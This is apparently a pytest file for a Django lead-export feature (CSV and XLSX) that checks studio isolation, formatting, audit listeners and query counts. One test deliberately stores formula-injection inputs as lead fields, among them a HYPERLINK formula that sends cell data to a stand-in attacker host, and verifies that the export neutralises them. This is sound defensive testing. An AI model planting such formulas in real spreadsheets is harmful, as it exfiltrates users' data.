"""Leads as a spreadsheet: whoever takes them is known, nobody takes those of others."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from intake.desk import export
from tests.sites import ZAAL, counted_queries

from .desk import MONDAY, as_, body, lead_at

pytestmark = pytest.mark.django_db


def taken(file_format: str, query: str = "", who: str = "kade-owner") -> list[list[Any]]:
    response = as_(who).get(reverse("lead:index") + f"?export={file_format}{query}")
    assert response.streaming
    assert "attachment" in response["Content-Disposition"]
    content = body(response)
    if file_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    return [[cell.value for cell in row] for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


@pytest.fixture
def told() -> Iterator[list[tuple[Any, int]]]:
    """What a listener hears of exports."""
    heard: list[tuple[Any, int]] = []
    listener = export.on_export(lambda user, leads: heard.append((user.username, leads.count())))
    yield heard
    export._listeners.remove(listener)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_file_holds_what_the_list_shows_and_nothing_of_another_studio(file_format: str) -> None:
    lead_at(name="Fenna", phone="+31206241111", took=60)
    lead_at(name="Bram", status="reached")
    lead_at(name="Robot", standing="suspected", waits=False)
    lead_at(ZAAL, name="Geheim Geval")
    rows = taken(file_format)
    names = [row[2] for row in rows[1:]]
    assert sorted(names) == ["Bram", "Fenna"]
    assert [row[2] for row in taken(file_format, "&status=reached")[1:]] == ["Bram"]
    fenna = rows[1:][names.index("Fenna")]
    assert "(+31) 20 624 1111" in fenna
    assert "2026-03-02 10:00:00" in map(str, fenna), "the studio's own time"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_what_a_stranger_filled_in_is_no_formula(file_format: str) -> None:
    evil = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik")'
    lead_at(name=evil, campaign="+1+1", source_path="@SUM(A1)", status_reason="-2+3", points=-4)
    (row,) = taken(file_format)[1:]
    assert f"'{evil}" in row
    assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "@")) for cell in row)
    assert {"'-2+3", "'+1+1", "'@SUM(A1)"} <= set(row)


def test_whoever_takes_leads_along_is_known(told: list[tuple[Any, int]]) -> None:
    lead_at()
    lead_at(ZAAL)
    taken("csv")
    taken("xlsx", who="admin")
    assert told == [("kade-owner", 1), ("admin", 2)]


def test_a_thousand_rows_cost_as_many_queries_as_one() -> None:
    client = as_("kade-owner")
    address = reverse("lead:index") + "?export=csv"
    lead_at(at=MONDAY)
    body(client.get(address))
    with counted_queries() as one:
        body(client.get(address))
    for _number in range(20):
        lead_at()
    with counted_queries() as many:
        body(client.get(address))
    assert len(many) == len(one)
